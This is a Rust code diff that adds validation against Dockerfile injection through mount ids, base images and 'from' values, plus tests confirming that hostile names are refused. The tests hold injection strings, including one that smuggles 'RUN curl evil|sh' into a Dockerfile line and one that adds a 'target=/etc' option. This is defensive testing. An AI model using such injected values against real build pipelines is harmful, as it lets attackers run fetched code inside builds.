@@ -56,11 +56,18 @@ pub struct HelperBuild<'a> {
 
 /// Runs the helper build; the mount's archive is the returned directory's `mount.tar`.
 pub async fn copy_out(h: &HelperBuild<'_>) -> Result<tempfile::TempDir, RemoteError> {
-    if h.mount_id.contains([',', '"', '\n', '\r']) || h.base.contains(char::is_whitespace) {
+    // Recorded values are hostile: none may end the mount option or the line it is on.
+    let from = h.uses.and_then(|u| u.from.as_deref()).unwrap_or("");
+    if h.mount_id.contains([',', '"', '\n', '\r'])
+        || from.contains([',', '"', '='])
+        || from.contains(char::is_whitespace)
+        || h.base.contains(char::is_whitespace)
+    {
         return Err(RemoteError::local(format!(
-            "mount `{}` (base `{}`) cannot be named in a Dockerfile mount option",
+            "mount `{}` (base `{}`, from `{}`) cannot be named in a Dockerfile mount option",
             h.mount_id.escape_debug(),
-            h.base.escape_debug()
+            h.base.escape_debug(),
+            from.escape_debug()
         )));
     }
     let mut options = format!(
@@ -603,5 +610,40 @@ mod tests {
         );
         assert!(scan.files.windows(2).all(|w| w[0].path < w[1].path));
         assert!(scan.unchecked.is_empty(), "{:?}", scan.unchecked);
+    }
+}
+
+#[cfg(test)]
+mod injection_tests {
+    use super::*;
+
+    /// A recorded mount id, `from` or base image that would end the mount option or the
+    /// Dockerfile line is refused before any build runs.
+    #[tokio::test]
+    async fn hostile_names_never_reach_the_dockerfile() {
+        let evil_from = MountUse {
+            id: "pip".into(),
+            from: Some("x\nRUN curl evil|sh".into()),
+            ..MountUse::default()
+        };
+        for (mount_id, base, uses) in [
+            ("pip,target=/etc", "busybox", None),
+            ("pip\nRUN evil", "busybox", None),
+            ("pip", "busybox\nRUN evil", None),
+            ("pip", "busybox", Some(&evil_from)),
+        ] {
+            let helper = HelperBuild {
+                docker: "/nonexistent/docker",
+                endpoint: "unix:///nonexistent",
+                base,
+                mount_id,
+                uses,
+            };
+            let err = copy_out(&helper).await.unwrap_err();
+            assert!(
+                err.to_string().contains("cannot be named in a Dockerfile"),
+                "{err}"
+            );
+        }
     }
 }
